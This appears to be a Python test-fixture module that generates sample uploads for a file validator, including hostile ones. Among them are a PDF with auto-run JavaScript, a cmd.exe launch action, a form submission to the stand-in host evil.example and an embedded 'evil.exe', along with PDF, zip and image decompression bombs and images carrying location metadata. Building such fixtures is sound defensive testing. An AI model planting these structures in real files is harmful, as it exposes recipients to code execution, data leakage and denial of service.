"""Files as people send them, whole and broken, harmless and not."""

import io
import os
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache
from types import MappingProxyType
from typing import Any

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

NOTHING: Mapping[str, bytes] = MappingProxyType({})
OPEN_XML = "application/vnd.openxmlformats-officedocument"
ORIENTATION, MAKE, GPS = 0x0112, 0x010F, 0x8825


def pdf(pages: int = 1, password: str = "", *, weight: int = 0) -> bytes:
    """A PDF with empty pages, and as many bytes besides that nothing makes smaller."""
    document, out = pikepdf.new(), io.BytesIO()
    if weight:
        document.Root.Weight = document.make_stream(os.urandom(weight))
    for _ in range(pages):
        document.add_blank_page()
    document.save(out, encryption=pikepdf.Encryption(owner=password, user=password) if password else None)
    return out.getvalue()


def acting_pdf() -> bytes:
    """A PDF that runs scripts, starts programs, sends its form away and carries another file."""
    document, out = pikepdf.new(), io.BytesIO()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    away = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn/"))
    page = document.add_blank_page()
    box = pikepdf.Array([0, 0, 50, 50])
    page.obj.Annots = document.make_indirect(
        pikepdf.Array(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=box, A=action)
            for action in (launch, away, link)
        )
    )
    page.obj.AA = pikepdf.Dictionary(O=document.make_indirect(script))
    document.Root.OpenAction = script
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))
    document.attachments["evil.exe"] = b"MZ-evil"
    document.save(out)
    return out.getvalue()


def unfolding_pdf(megabytes: int) -> bytes:
    """A PDF of a few kilobytes whose cross-reference stream unfolds into ``megabytes``."""
    packed = zlib.compress(_packed_zeros(megabytes), 9)
    body = (
        b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\n"
        b"endobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    )
    head = b"4 0 obj\n<</Type/XRef/Size 5/Root 1 0 R/W[1 4 2]/Index[0 5]/Filter[/FlateDecode/FlateDecode]/Length %d>>"
    tail = b"stream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (packed, len(body))
    return body + head % len(packed) + tail


def _packed_zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros as zlib packs them, made of one packed megabyte again and again."""
    compressor = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    one = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    # The check sum of zeros (Adler-32): its lower half stays one, its upper half counts them.
    check = ((megabytes << 20) % 65_521 << 16) + 1
    return b"\x78\xda" + one * megabytes + compressor.flush() + check.to_bytes(4, "big")


def picture(kind: str, size: tuple[int, int] = (400, 300), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def photograph() -> bytes:
    """A picture of a telephone held upright: 40 wide and 20 high as stored, red where the top is to be; and a place."""
    image, exif = Image.new("RGB", (40, 20), "white"), Image.Exif()
    image.paste((255, 0, 0), (0, 0, 8, 20))
    exif[ORIENTATION], exif[MAKE] = 6, "Some Telephone"
    exif.get_ifd(GPS)[1] = "N"
    exif[GPS] = {1: "N", 2: (21.0, 1.0, 42.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=95, comment=b"who took it")
    return out.getvalue()


def screenshot() -> bytes:
    """A PNG that says who made it."""
    out, said = io.BytesIO(), PngInfo()
    said.add_text("Author", "Nguyen Thi Thu")
    Image.new("RGBA", (30, 20), (0, 0, 255, 100)).save(out, "PNG", pnginfo=said)
    return out.getvalue()


@cache
def large_picture() -> bytes:
    """A PNG of few bytes and very many dots."""
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    return out.getvalue()


def open_document(**more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office/>" * 500)
        for name, body in more.items():
            archive.writestr(name, body)
    return out.getvalue()


def word(
    main: str = "wordprocessingml.document.main+xml", *, first: bool = True, more: Mapping[str, bytes] = NOTHING
) -> bytes:
    """A file of Word; with ``first`` false its list of types stands last, where libmagic does not look."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{OPEN_XML}.{main}"/></Types>'
    parts = {"[Content_Types].xml": types.encode(), "_rels/.rels": b"<Relationships/>"}
    parts |= {"word/document.xml": b"<w:document/>" * 50, "customXml/item1.xml": b"<x/>", **more}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in parts if first else reversed(parts):
            archive.writestr(name, parts[name])
    return out.getvalue()


def unfolding_zip() -> bytes:
    """An office file of half a megabyte that says, truly, that it unfolds into a gigabyte."""
    return word(more={"word/media/image1.bmp": bytes(300 << 20)})


def locked_zip() -> bytes:
    """An office file whose members say that they are encrypted."""
    body = bytearray(open_document())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = body.find(mark)
        while at >= 0:
            body[at + place] |= 1
            at = body.find(mark, at + 4)
    return bytes(body)
